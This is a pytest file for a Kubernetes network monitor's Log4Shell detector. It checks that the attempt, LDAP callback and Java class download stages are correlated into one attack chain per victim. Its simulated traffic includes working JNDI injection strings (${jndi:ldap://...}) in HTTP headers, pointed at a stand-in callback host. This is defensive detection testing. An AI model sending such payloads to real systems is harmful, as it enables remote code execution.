"""Correlation: one attack chain per victim, every notice pointing at it, repeats counted."""

from __future__ import annotations

from kubectl_netmon.capture.l7.events import HttpRequest, HttpResponse
from kubectl_netmon.detect.log4shell import chains
from kubectl_netmon.detect.log4shell.correlate import endpoint, endpoint_ip
from tests.detect import wire
from tests.detect.harness import Hooks

ATTACKER, VICTIM, CALLBACK = "203.0.113.7", "10.0.0.5", "198.51.100.9"


def full_chain(hooks: Hooks, victim: str = VICTIM) -> None:
    """Attempt -> LDAP callback with a Java reference -> class download, as JNDIExploit does."""
    web = hooks.conn(ATTACKER, 0, victim, 8080)
    hooks.event(web, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/", version="1.1",
                                 headers=[("x-api-version", "${jndi:ldap://198.51.100.9:1389/a}")]))
    ldap = hooks.conn(victim, 0, CALLBACK, 1389)
    hooks.talk(ldap, (True, wire.bind_request()), (False, wire.bind_response()),
               (True, wire.search_request()), (False, wire.java_reference_entry()))
    get = hooks.conn(victim, 0, CALLBACK, 8000)
    hooks.event(get, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/Exploit.class",
                                 version="1.1", user_agent="Java/1.8.0_102"))
    hooks.event(get, HttpResponse(ts_ns=hooks.tick(), status=200, reason="OK", version="1.1",
                                  content_type="application/java-vm", body=wire.CLASS_FILE))
    hooks.end(get)
    hooks.end(web)


def test_every_stage_of_one_victim_points_at_one_chain():
    hooks = Hooks()
    full_chain(hooks)
    assert sorted(hooks.notes()) == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK",
                                     "LOG4J_JAVA_CLASS_DOWNLOAD", "LOG4J_LDAP_JAVA"]
    assert {n.extra["chain"] for n in hooks.notices} == {"log4shell-1"}


def test_each_notice_names_attacker_victim_and_callback():
    hooks = Hooks()
    full_chain(hooks)
    for notice in hooks.notices:
        assert (notice.extra["attacker"], notice.extra["victim"], notice.extra["callback"]) == (
            ATTACKER, f"{VICTIM}:8080", f"{CALLBACK}:1389")


def test_an_attempt_names_its_sender_although_the_chain_began_with_the_callback():
    """A live capture may start between an attempt and its callback: the callback server stands
    in as the attacker only until an attempt shows who sent the exploit."""
    hooks = Hooks()
    ldap = hooks.conn(VICTIM, 0, CALLBACK, 1389)  # the attempt before it was not captured
    hooks.talk(ldap, (True, wire.bind_request()), (False, wire.bind_response()),
               (True, wire.search_request()), (False, wire.java_reference_entry()))
    full_chain(hooks)

    attempts = [n for n in hooks.notices if "ATTEMPT" in n.note]
    assert attempts and {n.extra["attacker"] for n in attempts} == {ATTACKER}
    assert chains(hooks.notices)[0].attacker == ATTACKER


def test_chains_summarise_the_stages_in_attack_order():
    hooks = Hooks()
    full_chain(hooks)
    [chain] = chains(hooks.notices)
    assert [n.split("::")[1] for n in chain.notes] == [
        "LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK", "LOG4J_LDAP_JAVA", "LOG4J_JAVA_CLASS_DOWNLOAD"]
    assert (chain.victim_ip, chain.attacker_ip, chain.callback) == (
        VICTIM, ATTACKER, f"{CALLBACK}:1389")


def test_two_victims_make_two_chains():
    hooks = Hooks()
    full_chain(hooks)
    full_chain(hooks, victim="10.0.0.6")
    assert [c.victim_ip for c in chains(hooks.notices)] == [VICTIM, "10.0.0.6"]


def test_chain_counts_suppressed_repeats():
    hooks = Hooks()
    full_chain(hooks)
    full_chain(hooks)
    [chain] = chains(hooks.notices)
    assert chain.suppressed == 3  # the same attempt, callback server and LDAP reply again


def test_chains_ignore_notices_without_a_chain():
    from kubectl_netmon.detect.base import Notice
    assert chains([Notice(ts_ns=1, note="Other::NOTE", msg="m")]) == []


def test_endpoint_round_trips_ipv4_and_ipv6():
    assert endpoint("10.0.0.5", 8080) == "10.0.0.5:8080"
    assert endpoint("2001:db8::1", 443) == "[2001:db8::1]:443"
    assert endpoint("10.0.0.5") == "10.0.0.5"
    assert [endpoint_ip(e) for e in ("10.0.0.5:8080", "[2001:db8::1]:443", "2001:db8::1")] == [
        "10.0.0.5", "2001:db8::1", "2001:db8::1"]


def test_ipv6_victim_and_callback_are_bracketed():
    hooks = Hooks()
    web = hooks.conn("2001:db8::7", 0, "2001:db8::5", 8080)
    hooks.event(web, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/", version="1.1",
                                 headers=[("user-agent", "${jndi:ldap://[2001:db8::7]:1389/a}")]))
    hooks.end(web)
    hooks.end(hooks.conn("2001:db8::5", 0, "2001:db8::7", 1389))
    [chain] = chains(hooks.notices)
    assert (chain.victim, chain.callback, chain.victim_ip) == (
        "[2001:db8::5]:8080", "[2001:db8::7]:1389", "2001:db8::5")
    assert [n.note.split("::")[1] for n in chain.notices] == [
        "LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
